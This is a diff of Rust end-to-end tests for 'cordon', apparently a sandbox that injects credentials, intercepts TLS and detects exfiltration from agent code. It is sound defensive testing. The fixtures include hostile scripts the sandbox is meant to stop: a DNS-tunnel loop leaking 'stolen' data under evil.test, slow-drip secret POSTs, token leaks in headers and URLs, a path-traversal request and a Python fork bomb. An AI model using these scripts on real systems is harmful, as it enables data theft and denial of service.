@@ -370,6 +370,7 @@ impl FakeNet {
                     "40s".into(),
                 ])
                 .collect(),
+            env: Vec::new(),
         }
     }
 
@@ -484,6 +485,8 @@ fn curl(args: &[&str]) -> Vec<String> {
 struct Run<'n> {
     net: &'n FakeNet,
     args: Vec<String>,
+    /// Variables of cordon's own environment (secrets for `from_env`).
+    env: Vec<(String, String)>,
 }
 
 /// One finished `cordon run`.
@@ -499,6 +502,11 @@ struct Ran {
 impl Run<'_> {
     fn args(mut self, args: &[&str]) -> Self {
         self.args.extend(args.iter().map(|s| s.to_string()));
+        self
+    }
+
+    fn env(mut self, name: &str, value: &str) -> Self {
+        self.env.push((name.to_owned(), value.to_owned()));
         self
     }
 
@@ -518,14 +526,28 @@ impl Run<'_> {
         self.args(&["--policy", &p])
     }
 
+    /// Starts the run without waiting for it (stdout/stderr piped).
+    fn spawn<S: AsRef<str>>(self, command: &[S]) -> Child {
+        let mut cmd = cordon_command();
+        cmd.arg("run")
+            .args(&self.args)
+            .envs(self.env.iter().map(|(k, v)| (k, v)))
+            .arg("--")
+            .args(command.iter().map(AsRef::as_ref));
+        spawn(&mut cmd)
+    }
+
     fn run<S: AsRef<str>>(self, command: &[S]) -> Ran {
-        let result = self.net.dir.path().join("result.json");
+        // A file of its own, so runs may go in parallel.
+        let n = self.net.policies.fetch_add(1, Ordering::Relaxed);
+        let result = self.net.dir.path().join(format!("result-{n}.json"));
         let _ = std::fs::remove_file(&result);
         let mut cmd = cordon_command();
         cmd.arg("run")
             .arg("--result")
             .arg(&result)
             .args(&self.args)
+            .envs(self.env.iter().map(|(k, v)| (k, v)))
             .arg("--")
             .args(command.iter().map(AsRef::as_ref));
         let f = finish(spawn(&mut cmd), RUN_LIMIT, "cordon run");
@@ -1669,7 +1691,7 @@ fn exceeding_a_budget_or_the_blocked_threshold_terminates_the_session_when_the_p
         (
             "[response]\nterminate_after_blocked = 3\n",
             "http://other.fake.test/t",
-            "3 blocked network attempts (terminate_after_blocked = 3)",
+            "3 blocked network attempts in 24h (detect.blocked.threshold = 3)",
         ),
     ] {
         let r = net
@@ -2178,5 +2200,1061 @@ fn killing_the_supervisor_leaves_the_sandbox_no_network_and_no_process() {
     assert!(
         closed,
         "the sandbox's output stayed open after the supervisor was killed"
+    );
+}
+
+// ------------------------------------------------------------------------------------------
+// Credentials, TLS interception, rules and DLP (issue 5).
+
+/// A secret value of this test run: random, so a grep for it can only find this run's leaks.
+fn test_secret() -> String {
+    let mut b = [0u8; 12];
+    getrandom_bytes(&mut b);
+    let hex: String = b.iter().map(|x| format!("{x:02x}")).collect();
+    format!("ghp_e2eSecret{hex}")
+}
+
+fn getrandom_bytes(buf: &mut [u8]) {
+    let mut f = std::fs::File::open("/dev/urandom").unwrap();
+    f.read_exact(buf).unwrap();
+}
+
+/// Every file under `dir` that contains `needle` (bytes).
+fn files_containing(dir: &Path, needle: &[u8]) -> Vec<PathBuf> {
+    let mut found = Vec::new();
+    let mut stack = vec![dir.to_path_buf()];
+    while let Some(d) = stack.pop() {
+        let Ok(rd) = std::fs::read_dir(&d) else {
+            continue;
+        };
+        for entry in rd.flatten() {
+            let p = entry.path();
+            let Ok(ft) = entry.file_type() else { continue };
+            if ft.is_dir() {
+                stack.push(p);
+            } else if ft.is_file() {
+                if let Ok(bytes) = std::fs::read(&p) {
+                    if bytes.windows(needle.len()).any(|w| w == needle) {
+                        found.push(p);
+                    }
+                }
+            }
+        }
+    }
+    found
+}
+
+const GH_POLICY: &str = r#"
+[network]
+allow = ["api.fake.test", "other.fake.test"]
+intercept = ["other.fake.test"]
+
+[[network.rules]]
+host = "api.fake.test"
+methods = ["GET", "POST"]
+paths = ["/echo-auth", "/zen", "/upload"]
+
+[[credentials]]
+name = "github"
+hosts = ["api.fake.test"]
+header = "Authorization"
+format = "Bearer {secret}"
+from_env = "GITHUB_TOKEN"
+
+[response]
+terminate_after_blocked = 0
+"#;
+
+/// The shell script run inside the sandbox for the credential tests: every client with the
+/// placeholder, then placeholders, a secret-shaped value and refused paths sent where they must
+/// not go. (`/proc` is searched from the host's side, in
+/// `no_sandbox_process_shows_the_secret_in_its_environment_or_command_line`.)
+const CRED_SCRIPT: &str = r#"
+echo "PLACEHOLDER=$GITHUB_TOKEN"
+echo "--- curl proxy"
+curl -sS --max-time 10 -D - -H "Authorization: Bearer $GITHUB_TOKEN" https://api.fake.test/echo-auth; echo
+echo "--- curl transparent"
+curl -sS --max-time 10 --noproxy '*' -H "Authorization: Bearer $GITHUB_TOKEN" https://api.fake.test/echo-auth; echo
+echo "--- python"
+/usr/bin/python3 - <<'PY'
+import os, urllib.request, requests
+h = {"Authorization": "Bearer " + os.environ["GITHUB_TOKEN"]}
+print("urllib", urllib.request.urlopen(urllib.request.Request("https://api.fake.test/echo-auth", headers=h)).read().decode())
+r = requests.get("https://api.fake.test/echo-auth", headers=h)
+print("requests", r.status_code, r.text)
+PY
+if [ -x /usr/bin/node ]; then
+echo "--- node"
+/usr/bin/node -e "fetch('https://api.fake.test/echo-auth',{headers:{Authorization:'Bearer '+process.env.GITHUB_TOKEN}}).then(r=>r.text()).then(t=>console.log('node',t),e=>{console.log('node ERR',e,e.cause);process.exit(3)})"
+fi
+echo "--- elsewhere"
+curl -sS --max-time 10 -o /dev/null -w "other %{http_code}\n" -H "Authorization: Bearer $GITHUB_TOKEN" https://other.fake.test/collect
+curl -sS --max-time 10 -o /dev/null -w "url %{http_code}\n" "https://other.fake.test/c?t=$GITHUB_TOKEN"
+curl -sS --max-time 10 -o /dev/null -w "body %{http_code}\n" --data-binary "t=$GITHUB_TOKEN" https://api.fake.test/upload
+curl -sS --max-time 10 -o /dev/null -w "dlp %{http_code}\n" --data-binary "k=AKIAIOSFODNN7EXAMPLE" https://api.fake.test/upload
+curl -sS --max-time 10 -o /dev/null -w "rule %{http_code}\n" https://api.fake.test/admin
+curl -sS --max-time 10 -o /dev/null -w "dots %{http_code}\n" --path-as-is "https://api.fake.test/zen/%2e%2e/admin"
+echo "--- done"
+"#;
+
+/// Runs [`CRED_SCRIPT`] with GITHUB_TOKEN = `secret` in cordon's environment.
+fn run_credential_script(net: &FakeNet, secret: &str, upstream_ca: bool) -> Ran {
+    let mut run = net.cordon().policy(GH_POLICY).env("GITHUB_TOKEN", secret);
+    if upstream_ca {
+        let ca = net.dir.path().join("net/ca.pem").display().to_string();
+        run = run.args(&["--upstream-ca", &ca]);
+    }
+    run.run(&["/bin/sh", "-c", CRED_SCRIPT])
+}
+
+#[test]
+fn credentials_reach_their_host_through_interception_and_the_sandbox_never_holds_them() {
+    let Some(net) =
+        enter("credentials_reach_their_host_through_interception_and_the_sandbox_never_holds_them")
+    else {
+        return;
+    };
+    let secret = test_secret();
+    let mark = net.mark();
+    let r = run_credential_script(&net, &secret, true);
+    let out = &r.stdout;
+    assert_eq!(r.status, 0, "--- stdout\n{out}\n--- stderr\n{}", r.stderr);
+
+    // The sandbox holds a placeholder, never the value, and every client worked.
+    let placeholder = out
+        .lines()
+        .find_map(|l| l.strip_prefix("PLACEHOLDER="))
+        .unwrap()
+        .to_string();
+    assert!(placeholder.starts_with("cordon-placeholder-"), "{out}");
+    assert!(
+        !out.contains(&secret),
+        "the secret reached the sandbox:\n{out}"
+    );
+    let redacted = format!("authorization=Bearer {}", "*".repeat(secret.len()));
+    let clients = ["urllib ", "requests 200 "];
+    for c in clients {
+        assert!(out.contains(&format!("{c}{redacted}")), "{c}: {out}");
+    }
+    assert!(out.matches(&redacted).count() >= 4, "{out}");
+    assert!(
+        out.to_lowercase()
+            .contains(&format!("x-echo-auth: bearer {}", "*".repeat(secret.len()))),
+        "{out}"
+    );
+    if Path::new("/usr/bin/node").exists() {
+        assert!(out.contains(&format!("node {redacted}")), "{out}");
+    } else {
+        eprintln!("SKIPPED node part: /usr/bin/node is not installed");
+    }
+    // Placeholders going elsewhere, DLP and the rules.
+    for line in [
+        "other 403",
+        "url 403",
+        "body 403",
+        "dlp 403",
+        "rule 403",
+        "dots 403",
+    ] {
+        assert!(out.lines().any(|l| l == line), "missing {line:?}:\n{out}");
+    }
+
+    // Upstream received the real value, and only on the bound host, always over TLS.
+    let http = net.seen_since(mark, "http");
+    let bearer = format!("Bearer {secret}");
+    let with_secret: Vec<_> = http
+        .iter()
+        .filter(|e| e["auth"] == bearer.as_str())
+        .collect();
+    assert!(with_secret.len() >= 4, "{http:#?}");
+    for e in &with_secret {
+        assert_eq!(e["host"], "api.fake.test");
+        assert_eq!(e["tls"], true);
+    }
+    assert!(
+        http.iter().all(|e| e["host"] != "other.fake.test"),
+        "a refused request reached other.fake.test: {http:#?}"
+    );
+    assert!(
+        http.iter()
+            .all(|e| e["path"] != "/admin" && e["method"] != "POST"),
+        "{http:#?}"
+    );
+
+    // The audit names the credential's uses and the alerts, never the value.
+    let events = net.audit_events(&r.session());
+    let uses: Vec<_> = events
+        .iter()
+        .filter(|e| {
+            e["kind"] == "http_request"
+                && e["reason"]
+                    .as_str()
+                    .is_some_and(|s| s.contains("credential github injected"))
+        })
+        .collect();
+    assert!(uses.len() >= 4, "{events:#?}");
+    assert!(uses
+        .iter()
+        .all(|e| e["path"] == "/echo-auth" && e["method"] == "GET"));
+    let alerts: Vec<&str> = events
+        .iter()
+        .filter(|e| e["kind"] == "alert")
+        .filter_map(|e| e["rule"].as_str())
+        .collect();
+    for rule in [
+        "placeholder-leak:placeholder:github",
+        "dlp:aws_access_key_id",
+        "response-redacted:secret:github",
+    ] {
+        assert!(alerts.contains(&rule), "no {rule} alert: {alerts:?}");
+    }
+    let rules: Vec<_> = records(&events, "blocked", Some("api.fake.test"))
+        .into_iter()
+        .filter(|e| e["rule"] == "http-rules:default-deny")
+        .collect();
+    assert_eq!(rules.len(), 2, "{events:#?}");
+
+    // Secrecy: the value is nowhere cordon wrote — audit store, workspace, output, errors.
+    let needle = secret.as_bytes();
+    let audit_files = files_containing(net.dir.path(), needle);
+    let leaked: Vec<_> = audit_files
+        .iter()
+        .filter(|p| !p.starts_with(net.dir.path().join("net")))
+        .collect();
+    assert!(leaked.is_empty(), "the secret is in {leaked:?}");
+    assert!(!r.stderr.contains(&secret), "{}", r.stderr);
+    let exported = net.audit(&["events", &r.session(), "--json"]);
+    assert!(!exported.stdout.contains(&secret));
+}
+
+#[test]
+fn an_upstream_that_fails_verification_is_refused_and_a_missing_secret_fails_the_run() {
+    let Some(net) =
+        enter("an_upstream_that_fails_verification_is_refused_and_a_missing_secret_fails_the_run")
+    else {
+        return;
+    };
+    // Without --upstream-ca, the fake origin's certificate does not verify against the host's
+    // trust store: the request is refused (502), never sent, and audited.
+    let secret = test_secret();
+    let mark = net.mark();
+    let r = net
+        .cordon()
+        .policy(GH_POLICY)
+        .env("GITHUB_TOKEN", &secret)
+        .run(&curl(&[
+            "-H",
+            "Authorization: Bearer x",
+            "https://api.fake.test/zen",
+        ]))
+        .ok();
+    let (code, reason) = r.curl_code();
+    assert_eq!(code, 502, "{}", r.stdout);
+    assert!(reason.contains("failed TLS verification"), "{reason}");
+    assert!(net.seen_since(mark, "http").is_empty());
+    let events = net.audit_events(&r.session());
+    assert!(
+        records(&events, "blocked", Some("api.fake.test"))
+            .iter()
+            .any(|e| e["rule"] == "upstream-tls"),
+        "{events:#?}"
+    );
+
+    // A secret that cannot be read fails the run before anything starts, without a value.
+    let r = net.cordon().policy(GH_POLICY).run(&["true"]);
+    assert_eq!(r.status, 125, "{}", r.stderr);
+    assert!(
+        r.stderr
+            .contains("credential github: environment variable GITHUB_TOKEN is not set"),
+        "{}",
+        r.stderr
+    );
+}
+
+/// Pids of `root` and every process below it (from /proc/*/stat).
+fn descendants(root: u32) -> Vec<u32> {
+    let mut parent = Vec::new();
+    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
+        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else {
+            continue;
+        };
+        let Ok(stat) = std::fs::read_to_string(format!("/proc/{pid}/stat")) else {
+            continue;
+        };
+        // The command name may hold spaces and parentheses: the ppid follows the last ')'.
+        let after = &stat[stat.rfind(')').unwrap_or(0) + 1..];
+        if let Some(ppid) = after
+            .split_whitespace()
+            .nth(1)
+            .and_then(|p| p.parse::<u32>().ok())
+        {
+            parent.push((pid, ppid));
+        }
+    }
+    let mut out = vec![root];
+    let mut i = 0;
+    while i < out.len() {
+        let p = out[i];
+        out.extend(parent.iter().filter(|(_, pp)| *pp == p).map(|(c, _)| *c));
+        i += 1;
+    }
+    out
+}
+
+#[test]
+fn no_sandbox_process_shows_the_secret_in_its_environment_or_command_line() {
+    let Some(net) = enter("no_sandbox_process_shows_the_secret_in_its_environment_or_command_line")
+    else {
+        return;
+    };
+    let secret = test_secret();
+    let ca = net.dir.path().join("net/ca.pem").display().to_string();
+    let child = net
+        .cordon()
+        .policy(GH_POLICY)
+        .env("GITHUB_TOKEN", &secret)
+        .args(&["--upstream-ca", &ca])
+        .spawn(&[
+            "/bin/sh",
+            "-c",
+            "curl -sS --max-time 10 -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.fake.test/echo-auth; echo; echo READY; exec sleep 30",
+        ]);
+    let root = child.id();
+    // Wait until the sandbox is up (its sleep exists), then read every process of the run —
+    // the supervisor, the sandbox's init and the command — from the host's side, as root sees
+    // them (more than the sandbox itself could read).
+    let deadline = Instant::now() + Duration::from_secs(30);
+    let mut checked = 0;
+    while Instant::now() < deadline {
+        let pids = descendants(root);
+        let sleeping = pids.iter().any(|p| {
+            std::fs::read(format!("/proc/{p}/cmdline")).is_ok_and(|c| c.starts_with(b"sleep\0"))
+        });
+        if sleeping {
+            for p in &pids {
+                for what in ["environ", "cmdline"] {
+                    if let Ok(bytes) = std::fs::read(format!("/proc/{p}/{what}")) {
+                        checked += 1;
+                        assert!(
+                            !bytes.windows(secret.len()).any(|w| w == secret.as_bytes()),
+                            "the secret is in /proc/{p}/{what} ({:?})",
+                            std::fs::read_to_string(format!("/proc/{p}/comm")).unwrap_or_default()
+                        );
+                    }
+                }
+            }
+            break;
+        }
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    // The run is ended by its own pid (kill sends SIGKILL to the supervisor; the sandbox dies
+    // with it through the parent-death signal).
+    let mut child = child;
+    let _ = child.kill();
+    let f = finish(child, Duration::from_secs(30), "cordon run");
+    assert!(checked >= 6, "the sandbox never came up: {}", f.stderr);
+    assert!(
+        f.stdout.contains("authorization=Bearer ****"),
+        "{}",
+        f.stdout
+    );
+    assert!(!f.stdout.contains(&secret) && !f.stderr.contains(&secret));
+}
+
+// ------------------------------------------------------------------------------------------
+// Detection, response and alerts (issue 4).
+
+/// A webhook receiver on the test namespace's loopback: every POST body, parsed.
+struct Webhook {
+    url: String,
+    rx: mpsc::Receiver<Value>,
+}
+
+impl Webhook {
+    fn start() -> Webhook {
+        use std::io::Write;
+        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let url = format!("http://{}/alerts", l.local_addr().unwrap());
+        let (tx, rx) = mpsc::channel();
+        std::thread::spawn(move || {
+            for s in l.incoming() {
+                let Ok(mut s) = s else { return };
+                let _ = s.set_read_timeout(Some(Duration::from_secs(5)));
+                let mut got = Vec::new();
+                let mut buf = [0u8; 4096];
+                let body = loop {
+                    let Ok(n) = s.read(&mut buf) else { break None };
+                    if n == 0 {
+                        break None;
+                    }
+                    got.extend_from_slice(&buf[..n]);
+                    let text = String::from_utf8_lossy(&got).into_owned();
+                    let Some((head, body)) = text.split_once("\r\n\r\n") else {
+                        continue;
+                    };
+                    let len: usize = head
+                        .lines()
+                        .find_map(|l| l.strip_prefix("Content-Length: "))
+                        .and_then(|v| v.trim().parse().ok())
+                        .unwrap_or(0);
+                    if body.len() >= len {
+                        assert!(head.starts_with("POST /alerts HTTP/1.1"), "{head}");
+                        break Some(body[..len].to_string());
+                    }
+                };
+                let _ = s.write_all(b"HTTP/1.1 204 No Content\r\nContent-Length: 0\r\n\r\n");
+                if let Some(b) = body {
+                    let _ = tx.send(serde_json::from_str(&b).unwrap_or(Value::Null));
+                }
+            }
+        });
+        Webhook { url, rx }
+    }
+
+    fn policy(&self) -> String {
+        format!("[alerts]\nwebhook = \"{}\"\ntimeout = \"2s\"\n", self.url)
+    }
+
+    /// Every alert received within `wait` of the first.
+    fn received(&self, wait: Duration) -> Vec<Value> {
+        let mut all = Vec::new();
+        if let Ok(v) = self.rx.recv_timeout(Duration::from_secs(5)) {
+            all.push(v);
+            while let Ok(v) = self.rx.recv_timeout(wait) {
+                all.push(v);
+            }
+        }
+        all
+    }
+}
+
+/// The checks every stopping detection shares: exit 137, the reason in the result, on stderr
+/// and in the session's end record, one `alert` audit event for `rule`, one webhook POST with
+/// the session's attribution.
+fn assert_terminated_by(net: &FakeNet, r: &Ran, hook: &Webhook, rule: &str, reason_start: &str) {
+    let session = r.session();
+    assert_eq!(r.status, 137, "{}\n{}", r.stdout, r.stderr);
+    assert_eq!(r.result["exit_status"], 137);
+    let reason = r.result["terminated"]
+        .as_str()
+        .unwrap_or_default()
+        .to_string();
+    assert!(reason.starts_with(reason_start), "{reason:?}\n{}", r.stderr);
+    let line = format!("cordon: session {session} terminated: {reason}");
+    assert!(
+        r.stderr.lines().any(|l| l == line),
+        "no {line:?} in\n{}",
+        r.stderr
+    );
+    assert!(
+        r.stderr.lines().any(|l| l.starts_with(&format!(
+            "cordon: alert: session {session}: {rule}: {reason} (response: terminate)"
+        ))),
+        "{}",
+        r.stderr
+    );
+    let fired = r.result["alerts"].as_array().unwrap();
+    assert_eq!(fired.len(), 1, "{}", r.result);
+    assert_eq!(fired[0]["rule"], rule);
+    assert_eq!(fired[0]["response"], "terminate");
+    let events = net.audit_events(&session);
+    assert_attributed(&events, r);
+    let alerts = records(&events, "alert", None);
+    assert_eq!(alerts.len(), 1, "{events:#?}");
+    assert_eq!(alerts[0]["rule"], format!("detect.{rule}"));
+    assert_eq!(alerts[0]["reason"], reason.as_str());
+    assert_eq!(alerts[0]["detail"]["response"], "terminate");
+    let end = records(&events, "session_end", None);
+    assert_eq!(end[0]["detail"]["terminated"], reason.as_str());
+    let posted = hook.received(Duration::from_millis(300));
+    assert_eq!(posted.len(), 1, "{posted:#?}");
+    let p = &posted[0];
+    assert_eq!(p["session"], session.as_str());
+    assert_eq!(p["user"], r.result["user"]);
+    assert_eq!(p["code_sha256"], r.result["code_sha256"]);
+    assert_eq!(p["rule"], rule);
+    assert_eq!(p["summary"], reason.as_str());
+    assert!(p["evidence"].is_object(), "{p}");
+}
+
+/// A DNS-tunnel loop: one lookup per chunk of "stolen" data under evil.test, each name new.
+const TUNNEL: &str = r#"
+import socket, sys, time
+data = b"AKIA-secret-material-" * 200
+for i in range(0, len(data), 10):
+    label = data[i:i+10].hex()
+    try:
+        socket.getaddrinfo(f"{label}.{i}.evil.test", 80)
+    except OSError:
+        pass
+    print(i // 10, flush=True)
+print("survived", flush=True)
+"#;
+
+#[test]
+fn a_dns_tunnel_loop_is_stopped_at_the_default_thresholds_with_an_alert() {
+    let Some(net) = enter("a_dns_tunnel_loop_is_stopped_at_the_default_thresholds_with_an_alert")
+    else {
+        return;
+    };
+    let hook = Webhook::start();
+    let mark = net.mark();
+    let r = net
+        .cordon()
+        .policy(&hook.policy())
+        .allow(&["api.fake.test:80"])
+        .run(&[PY, "-c", TUNNEL]);
+    assert_terminated_by(
+        &net,
+        &r,
+        &hook,
+        "dns_tunnel",
+        "dns tunnel suspected (20 distinct names under evil.test in 10s)",
+    );
+    // Stopped within the window: 20 names, then at most the lookups in flight while the
+    // supervisor killed the sandbox.
+    let done = codes(&r.stdout).len();
+    assert!(done < 40, "{done} lookups before the kill:\n{}", r.stdout);
+    assert!(!r.stdout.contains("survived"));
+    let fired = &r.result["alerts"][0];
+    assert_eq!(fired["signal"], "distinct_names");
+    assert_eq!(fired["severity"], "high");
+    assert_eq!(fired["evidence"]["domain"], "evil.test");
+    assert_eq!(fired["evidence"]["distinct_names"], 20);
+    // The upstream DNS server never heard of any of it.
+    assert!(net.seen_since(mark, "dns").is_empty());
+}
+
+#[test]
+fn a_burst_of_blocked_connects_ends_the_session_with_an_alert() {
+    let Some(net) = enter("a_burst_of_blocked_connects_ends_the_session_with_an_alert") else {
+        return;
+    };
+    let hook = Webhook::start();
+    // Direct connects to a port no policy allows: captured, refused, counted.
+    let script = format!(
+        "import socket\nfor i in range(50):\n    s = socket.socket()\n    s.settimeout(3)\n    \
+         try:\n        s.connect(('{API_IP}', 8080)); s.send(b'x'); s.recv(1)\n    except OSError:\n        pass\n    \
+         s.close()\n    print(i, flush=True)\nprint('survived')\n"
+    );
+    let r = net
+        .cordon()
+        .policy(&hook.policy())
+        .allow(&["api.fake.test:80"])
+        .run(&[PY, "-c", &script]);
+    assert_terminated_by(
+        &net,
+        &r,
+        &hook,
+        "blocked",
+        "5 blocked network attempts in 1m (detect.blocked.threshold = 5)",
+    );
+    assert!(codes(&r.stdout).len() < 10, "{}", r.stdout);
+}
+
+#[test]
+fn a_slow_drip_over_an_allowed_host_is_blocked_and_the_code_keeps_running() {
+    let Some(net) = enter("a_slow_drip_over_an_allowed_host_is_blocked_and_the_code_keeps_running")
+    else {
+        return;
+    };
+    let hook = Webhook::start();
+    let policy = format!(
+        "{}[detect.exfil]\nwindow = \"30s\"\nsmall_requests = 20\nresponse = \"block\"\n",
+        hook.policy()
+    );
+    // 40 small POSTs, each carrying a slice of a "secret", 50 ms apart.
+    let script = r#"
+import time, urllib.request, urllib.error
+secret = b"0123456789abcdef" * 40
+for i in range(40):
+    req = urllib.request.Request("http://api.fake.test/collect", data=secret[i*16:(i+1)*16], method="POST")
+    try:
+        code = urllib.request.urlopen(req, timeout=10).status
+    except urllib.error.HTTPError as e:
+        code = e.code
+    print(code, flush=True)
+    time.sleep(0.05)
+print("survived", flush=True)
+"#;
+    let mark = net.mark();
+    let r = net
+        .cordon()
+        .policy(&policy)
+        .allow(&["api.fake.test:80"])
+        .run(&[PY, "-c", script])
+        .ok();
+    let got = codes(&r.stdout);
+    assert_eq!(got.len(), 40, "{}", r.stdout);
+    // The 20th request fires the rule when it ends; every later one is refused.
+    assert!(got[..20].iter().all(|c| c == "200"), "{got:?}");
+    assert!(got[20..].iter().all(|c| c == "403"), "{got:?}");
+    assert!(r.stdout.contains("survived"));
+    assert!(r.result["terminated"].is_null(), "{}", r.result);
+    let fired = r.result["alerts"].as_array().unwrap();
+    assert_eq!(fired.len(), 1, "{}", r.result);
+    assert_eq!(fired[0]["rule"], "exfil");
+    assert_eq!(fired[0]["signal"], "small_requests");
+    assert_eq!(fired[0]["response"], "block");
+    assert_eq!(fired[0]["evidence"]["host"], "api.fake.test");
+    // Only the first 20 reached the origin.
+    let posts = net
+        .seen_since(mark, "http")
+        .into_iter()
+        .filter(|e| e["path"] == "/collect")
+        .count();
+    assert_eq!(posts, 20);
+    let events = net.audit_events(&r.session());
+    let alerts = records(&events, "alert", None);
+    assert_eq!(alerts.len(), 1, "{events:#?}");
+    assert_eq!(alerts[0]["rule"], "detect.exfil");
+    let refused = records(&events, "budget_exhausted", None);
+    assert_eq!(refused.len(), 20, "{events:#?}");
+    assert!(
+        refused.iter().all(|e| e["rule"] == "detect"),
+        "{refused:#?}"
+    );
+    let posted = hook.received(Duration::from_millis(300));
+    assert_eq!(posted.len(), 1);
+    assert_eq!(posted[0]["rule"], "exfil");
+    assert_eq!(posted[0]["response"], "block");
+}
+
+#[test]
+fn a_honey_token_in_a_header_ends_the_session_before_the_request_leaves() {
+    let Some(net) = enter("a_honey_token_in_a_header_ends_the_session_before_the_request_leaves")
+    else {
+        return;
+    };
+    let hook = Webhook::start();
+    let policy = format!(
+        "{}[detect.canary]\nenv = [\"AWS_SECRET_ACCESS_KEY\"]\n",
+        hook.policy()
+    );
+    let mark = net.mark();
+    let script = "test ${#AWS_SECRET_ACCESS_KEY} -eq 40 || exit 3; \
+                  curl -s -o /dev/null -H \"X-Api-Key: $AWS_SECRET_ACCESS_KEY\" \
+                  http://api.fake.test/innocent; sleep 5; echo survived";
+    let r = net
+        .cordon()
+        .policy(&policy)
+        .allow(&["api.fake.test:80"])
+        .run(&["sh", "-c", script]);
+    assert_terminated_by(
+        &net,
+        &r,
+        &hook,
+        "canary",
+        "canary credential AWS_SECRET_ACCESS_KEY sent out (request head)",
+    );
+    assert_eq!(r.result["alerts"][0]["severity"], "critical");
+    assert!(!r.stdout.contains("survived"));
+    assert!(
+        net.seen_since(mark, "http").is_empty(),
+        "the token reached the origin: {:?}",
+        net.seen_since(mark, "http")
+    );
+    let events = net.audit_events(&r.session());
+    let refused = records(&events, "blocked", Some("api.fake.test"));
+    assert!(
+        refused.is_empty(),
+        "recorded with the host it never reached: {refused:#?}"
+    );
+    assert_eq!(
+        records(&events, "blocked", None)[0]["rule"],
+        "detect.canary"
+    );
+}
+
+#[test]
+fn a_fork_bomb_fires_the_sandbox_rule_and_is_stopped() {
+    let Some(net) = enter("a_fork_bomb_fires_the_sandbox_rule_and_is_stopped") else {
+        return;
+    };
+    if std::env::var_os(USERNS_ENV).is_some() {
+        eprintln!(
+            "SKIPPED a_fork_bomb_fires_the_sandbox_rule_and_is_stopped: needs cgroups (root)"
+        );
+        return;
+    }
+    let hook = Webhook::start();
+    let policy = format!(
+        "{}[limits]\npids = 24\n[detect.sandbox]\nresponse = \"terminate\"\n",
+        hook.policy()
+    );
+    // Bounded: the pids limit caps it at 24 tasks, and the test's run limit at 60 s.
+    let script = "import os, time\nwhile True:\n    try:\n        if os.fork() == 0:\n            time.sleep(30)\n            os._exit(0)\n    except OSError:\n        time.sleep(0.001)\n";
+    let started = Instant::now();
+    let r = net.cordon().policy(&policy).run(&[PY, "-c", script]);
+    assert!(
+        started.elapsed() < Duration::from_secs(20),
+        "{:?}",
+        started.elapsed()
+    );
+    assert_terminated_by(
+        &net,
+        &r,
+        &hook,
+        "sandbox",
+        "pids limit hit (a fork failed: fork bomb or runaway process creation)",
+    );
+    assert!(
+        r.result["limits_hit"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|l| l == "pids"),
+        "{}",
+        r.result
+    );
+}
+
+#[test]
+fn a_daemon_that_outlives_the_command_is_reported() {
+    let Some(net) = enter("a_daemon_that_outlives_the_command_is_reported") else {
+        return;
+    };
+    let r = net
+        .cordon()
+        .run(&["sh", "-c", "setsid sleep 60 >/dev/null 2>&1 & echo started"])
+        .ok();
+    let fired = r.result["alerts"].as_array().unwrap();
+    assert_eq!(fired.len(), 1, "{}", r.result);
+    assert_eq!(fired[0]["rule"], "sandbox");
+    assert_eq!(fired[0]["signal"], "lingering");
+    assert_eq!(fired[0]["response"], "log");
+    let events = net.audit_events(&r.session());
+    assert_eq!(records(&events, "alert", None).len(), 1, "{events:#?}");
+    // And the control: a command that waits for its children leaves nothing behind.
+    let r = net.cordon().run(&["sh", "-c", "sleep 0.1 & wait"]).ok();
+    assert_eq!(r.result["alerts"], serde_json::json!([]), "{}", r.result);
+}
+
+/// The benign set: workloads an agent runs every day, each run several times at the default
+/// thresholds. None may fire a rule. The false-positive rate is printed for the report.
+#[test]
+fn benign_workloads_are_not_flagged() {
+    let Some(net) = enter("benign_workloads_are_not_flagged") else {
+        return;
+    };
+    let hook = Webhook::start();
+    let has_pip = Command::new(PY)
+        .args(["-m", "pip", "--version"])
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .status()
+        .is_ok_and(|s| s.success());
+    let requests = r#"
+import json, urllib.request
+ok = 0
+for i in range(200):
+    if i % 10 == 0:
+        req = urllib.request.Request("http://api.fake.test/api/items", data=json.dumps({"n": i}).encode(), method="POST")
+    else:
+        req = urllib.request.Request(f"http://api.fake.test/api/items/{i}")
+    with urllib.request.urlopen(req, timeout=10) as r:
+        r.read()
+        ok += r.status == 200
+print("ok", ok)
+"#;
+    let pip = format!(
+        "{PY} -m pip download --no-deps --no-cache-dir --disable-pip-version-check \
+         --index-url https://pypi.fake.test/simple --cert /workspace/ca.pem -d /tmp/dl \
+         fakepkg fakealpha fakebeta fakegamma fakedelta fakeepsilon && ls /tmp/dl | wc -l"
+    );
+    let mut workloads: Vec<(&str, Vec<String>, &str)> = vec![(
+        "200 requests",
+        vec![PY.into(), "-c".into(), requests.into()],
+        "ok 200",
+    )];
+    if has_pip {
+        workloads.push(("pip download", vec!["sh".into(), "-c".into(), pip], "6"));
+    } else {
+        eprintln!("SKIPPED pip part of benign_workloads_are_not_flagged: {PY} has no pip");
+    }
+    let (mut runs, mut flagged) = (0, 0);
+    for (name, argv, expect) in &workloads {
+        for _ in 0..3 {
+            let r = net
+                .cordon()
+                .policy(&hook.policy())
+                .allow(&["api.fake.test:80", "pypi.fake.test"])
+                .run(argv)
+                .ok();
+            assert!(
+                r.stdout.contains(expect),
+                "{name}: {}\n{}",
+                r.stdout,
+                r.stderr
+            );
+            runs += 1;
+            let fired = r.result["alerts"].as_array().unwrap();
+            if !fired.is_empty() {
+                flagged += 1;
+                eprintln!("{name} flagged: {fired:?}");
+            }
+            let events = net.audit_events(&r.session());
+            assert!(
+                records(&events, "alert", None).is_empty(),
+                "{name}: {events:#?}"
+            );
+        }
+    }
+    println!("BENIGN false positives: {flagged} of {runs} runs");
+    assert_eq!(flagged, 0);
+    assert!(hook.rx.try_recv().is_err(), "a benign run sent an alert");
+}
+
+// ------------------------------------------------------------------------------------------
+// Process attribution.
+
+/// Runs in the sandbox: curl through the proxy, python3's urllib, a python3 that calls itself
+/// `sshd` (argv[0]) and `kworker` (its thread name), curl with every proxy ignored (its DNS query
+/// and transparent connection), and a blocked request.
+const ATTRIBUTION_SCRIPT: &str = r#"
+set -e
+curl -sS -o /dev/null http://api.fake.test/by-curl
+/usr/bin/python3 -c 'import urllib.request; urllib.request.urlopen("http://api.fake.test/by-python").read()'
